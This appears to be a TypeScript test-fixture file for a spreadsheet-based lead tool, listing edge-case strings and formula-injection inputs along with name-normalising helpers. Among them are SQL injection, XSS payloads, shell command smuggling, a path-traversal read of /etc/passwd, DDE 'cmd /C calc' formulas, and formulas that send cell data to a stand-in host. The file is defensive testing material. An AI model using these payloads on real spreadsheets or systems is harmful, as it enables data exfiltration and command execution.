/**
 * Texts that break careless programs, each as a person, an import or an attacker may leave it in a cell. Our own list.
 * No NUL and no half of a surrogate pair, which no cell holds, and no carriage return, which spreadsheets store as a
 * line feed.
 */
// prettier-ignore
export const NAUGHTY: readonly string[] = [
  // Words that a program may take for nothing, for itself or for a member of every object.
  'undefined', 'null', 'NaN', 'Infinity', '-Infinity', 'true', 'FALSE', 'VERDADERO', 'None', 'nil', 'N/A', '#N/D',
  '#REF!', '__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf', 'prototype', '__defineGetter__',
  '[object Object]', '{}', '[]', '{field}', '{rows} {tab}', '$&', '$1', '\\1', '%s%d%n', '${7*7}', '{{7*7}}',
  // Numbers, dates and what is nearly one.
  '0', '00', '007', '-1', '+1', '1e3', '1E-7', '0x1F', '1_000', '1.000', '1,000', '1.234,56', '1,234.56', '.5', '-',
  '--1', '+34 600 000 001', '0034600000001', '12345678901234567890', '9007199254740993', '½', '٣', '１２', '1/2',
  '31/12/2026', '2026-02-30', '1899-12-30', '12 %', '50%', '€ 3.500,00', '3k', '11-50', '10:30', '1;2', 'a|b',
  // Quotes, escapes and marks of other languages.
  "'", "''", "'''", "'a", "''a", "O'Brien", '"', '""', '"a"', '\\', '\\\\', '\\n', '`', '´', '«»', '„”', ';', ',',
  ';;', '|', '||', '\t', 'a\tb', 'a\nb', '\nb', 'a\n', 'a\n\nb', '\u2028', 'a\u2028b', '\u0085',
  // Databases, pages, shells, files.
  "'; DROP TABLE leads;--", "1' OR '1'='1", '1; EXEC xp_cmdshell(1)', '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>', '"><svg onload=alert(1)>', '&lt;b&gt;', '&amp;', '&#0;', '<!--', ']]>', '<?xml?>',
  '$(touch x)', '`touch x`', '; ls', '../../etc/passwd', ['C:', 'CON'].join('\\'), 'file:///x', 'javascript:alert(1)', '%00', '%0A',
  // Control characters that a cell can hold, invisible and directional ones.
  '\u0001', 'a\u0007b', '\u001b[31m', '\u007f', 'a\u00adb', '\u00a0', 'a\u00a0b', '\u200b', 'a\u200bb', '\u200d',
  '\ufeff', '\ufeffa', '\u2060', '\u202eabc', '\u200fשלום', 'مرحبا', 'שָׁלוֹם', '\u061c', '\u180e', '_x0041_', '_x000D_',
  // Letters of many planes, combined, oversized or broken.
  'Ĳ', 'İstanbul', 'ı', 'ß', 'ẞ', 'Łódź', 'ﬁ', 'Ⅷ', 'é', 'e\u0301', 'Z̷̢̨a̵̡̛l̸̡̨g̴̢̨o̶', '田中さん', '한국', '😀', '👩‍👩‍👧',
  '🇪🇸', '🏳️‍🌈', '👍🏽', '𝓓𝓤𝓞', '𠜎', '￾', 'ｅｘａｍｐｌｅ', '̈', 'ˆ', '∀x∈ℝ', '№', '™', '﷽',
  // Words of our own tables.
  'DUO:', 'DUO ID', 'Puntos DUO', 'Falta', 'borrador', 'Umbral', 'Sin origen', 'Total',
];

/** What a spreadsheet would calculate, open or send if it were ever taken for a formula. */
// prettier-ignore
export const FORMULAS: readonly string[] = [
  '=1+1', '= 1+1', ' =1+1', '\t=1', '\n=1+1', '\u00a0=1+1', '\u200b=1', '\ufeff=1+1', '=A1', "='Leads'!A1", '+1+1',
  '-1+1', '@x', '@SUM(1+1)', '+A1', '-A1', '=', '==1', "'=1+1", "''=1+1", '=cmd|\' /C calc\'!A0',
  '=HYPERLINK("http://x.example?"&A2;"ver")', '=IMPORTXML(CONCAT("http://x.example?";A2);"//a")',
  '=IMPORTDATA("http://x.example/"&ENCODEURL(A2))', '=IMPORTRANGE("x";"A1")', '=IMAGE("http://x.example/"&A2)',
  '=DUO_SCORE(A1)', '=ARRAYFORMULA(A:A)', '=WEBSERVICE("http://x.example")', '=DDE("cmd";"/C calc";"x")',
  '+cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+9)*cmd|\' /C calc\'!A0', '=1+1";=2', '%0A=1+1', ';=1+1', '＝1+1', '＋1',
];

/** As long as a cell may be. */
export const LONG = `=${'á'.repeat(49_998)}`;

export const ALL: readonly string[] = [...NAUGHTY, ...FORMULAS];

const INVISIBLE = /(?:\s|\u200b|\u200c|\u200d|\u2060|\ufeff)+/g;

/** Whether a text shows anything at all that a name could be told by. */
export function saysSomething(text: string): boolean {
  return (
    text
      .normalize('NFKD')
      .replace(/[\u0300-\u036f]/g, '')
      .replace(INVISIBLE, '') !== ''
  );
}

/** Texts that differ in more than case, accents and spaces: names that mean different things. */
export function distinct(texts: readonly string[]): readonly string[] {
  const seen = new Set<string>();
  return texts.filter((text) => {
    const plain = text
      .normalize('NFKD')
      .toLowerCase()
      .replace(/[\u0300-\u036f]/g, '')
      .replace(/[łøđßæœ]/g, (letter) => ({ ł: 'l', ß: 'ss', ø: 'o', đ: 'd', æ: 'ae', œ: 'oe' })[letter]!)
      .replace(INVISIBLE, ' ')
      .trim();
    const isNew = saysSomething(text) && !seen.has(plain);
    seen.add(plain);
    return isNew;
  });
}
